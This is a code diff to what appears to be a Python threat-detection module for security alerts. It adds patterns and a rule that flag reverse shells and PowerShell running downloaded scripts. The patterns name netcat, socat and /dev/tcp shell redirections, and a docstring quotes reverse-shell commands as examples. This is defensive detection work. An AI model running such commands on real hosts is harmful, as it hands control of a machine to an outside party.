@@ -114,6 +114,14 @@ BARE_FETCH = re.compile(r"\b(curl|wget|certutil|bitsadmin|invoke-webrequest|iwr|
 HIDDEN_WINDOW = re.compile(r"\s[-/]w(indow(style)?)?\s+(hidden|1)\b", re.I)
 POLICY_LIFTED = re.compile(r"\s[-/](ep|exec(utionpolicy)?)\s+(bypass|unrestricted)\b|\s[-/]e(nc(odedcommand)?)?\s+[a-z0-9+/=]{16,}",
                            re.I)
+# A shell whose input and output are wired to a network socket: bash's /dev/tcp redirections, netcat's
+# -e, a fifo piped through netcat, socat's exec, a scripting language's socket duplicated onto stdin.
+REVERSE_SHELL = re.compile(r"(>&|&>|<>)\s*/dev/(tcp|udp)/|/dev/(tcp|udp)/\S+\s+0>&1|"
+                           r"\b(nc|ncat|netcat)\b[^|;&]*\s-(e|c)\s*\S*\b(ba|da|z|k)?sh\b|\bmkfifo\b.*\|\s*(nc|ncat|netcat)\b|"
+                           r"\bsocat\b.*\bexec:|\bsocket\b.*\bdup2\b|\bfsockopen\s*\(.*\b(exec|shell_exec|system|proc_open)\b",
+                           re.I)
+# PowerShell running what it downloads: Invoke-Expression of the fetched text.
+EXPRESSION_RUN = re.compile(r"\b(iex|invoke-expression)\b", re.I)
 PIPED_TO_SHELL = re.compile(r"\|\s*(sudo\s+(-\S+\s+)*)?(\S*/)?(ba|da|z|k)?sh\b")  # curl ... | sh: run as it arrives
 UPLOAD = re.compile(r"\s(-T|--upload-file|-F|--form|-d|--data(-binary)?)\s", re.I)  # sending, not fetching
 REPEATED_FAILURES = 8  # the frequency of Wazuh's stock brute-force rules (e.g. 5712, 5763, 60204)
@@ -179,6 +187,7 @@ def infer(threat, model):
     _service_account_desktop(threat, model, found)
     _wmi_execution(threat, model, found)
     _hidden_staging(threat, model, found)
+    _reverse_shell(threat, found)
     _fetch_from_address(threat, found)
     _kernel_module(threat, found)
     _office_child(threat, model, found)
@@ -189,14 +198,20 @@ def infer(threat, model):
     return model
 
 
+GENERIC_COMMAND_HIT = re.compile(r"^T\d{4}(\.\d{3})? \(rule ")  # what `_commands` writes
+
+
 def add(found, name, field, detail, tagged=False):
     """`tagged`: known only from a rule's ATT&CK tag, i.e. what the rule looks for, not proof it happened."""
     if name not in POLICIES:
         return
     known = next((b for b in found if b["name"] == name), None)
-    if known is not None and not (known.get("tagged") and not tagged):
+    # Seen in the event outranks a rule's tag; a named rule's reading outranks the generic
+    # command-line rule's (its technique stays in `command_techniques`).
+    if known is not None and not (known.get("tagged") and not tagged) and not \
+            (GENERIC_COMMAND_HIT.match(str(known.get("detail"))) and not GENERIC_COMMAND_HIT.match(str(detail))):
         return
-    if known is not None:  # seen in the event itself: outranks a rule's tag for the same behaviour
+    if known is not None:
         found.remove(known)
     found.append({"name": name, "field": field, "detail": str(detail)[:200], "inferred": True,
                   **({"tagged": True} if tagged else {})})
@@ -648,6 +663,17 @@ FETCH_VERB = re.compile(r"\b(curl|wget|certutil|bitsadmin|invoke-webrequest|iwr|
 ADDRESS_URL = re.compile(r"\bhttps?://\d{1,3}(\.\d{1,3}){3}\b", re.I)
 
 
+def _reverse_shell(threat, found):
+    """Rule `reverse_shell`: a command that wires a shell's input and output to a network socket
+    (`bash -i >& /dev/tcp/host/port 0>&1`, `nc -e /bin/sh`, a fifo through netcat, socat exec): someone
+    outside types commands on this host (T1059.004 over a raw socket, T1095)."""
+    for line in signal.values(threat, "command_line"):
+        if REVERSE_SHELL.search(line[:8_192]):
+            add(found, "command_and_control", "observables.command_line",
+                "a shell wired to a network socket: a reverse shell (T1059.004) (T1095)")
+            return
+
+
 def _fetch_from_address(threat, found):
     """Rule `fetch_from_address`: a command that downloads from a bare IP address (curl, wget,
     certutil, bitsadmin, PowerShell's web cmdlets): a tool brought in from outside (T1105); piped
@@ -657,7 +683,7 @@ def _fetch_from_address(threat, found):
         # The URL may come first, in a variable the download call then uses ($u='http://…'; …DownloadFile($u…)).
         fetched = BARE_FETCH.search(text) or (FETCH_VERB.search(text) and ADDRESS_URL.search(text))
         if fetched and not UPLOAD.search(text):
-            ran = PIPED_TO_SHELL.search(text[fetched.end():])
+            ran = PIPED_TO_SHELL.search(text[fetched.end():]) or EXPRESSION_RUN.search(text)
             add(found, "suspicious_execution", "observables.command_line",
                 "runs a script it downloads from a bare address in a shell (T1105)" if ran
                 else "downloads from a bare address (T1105)")
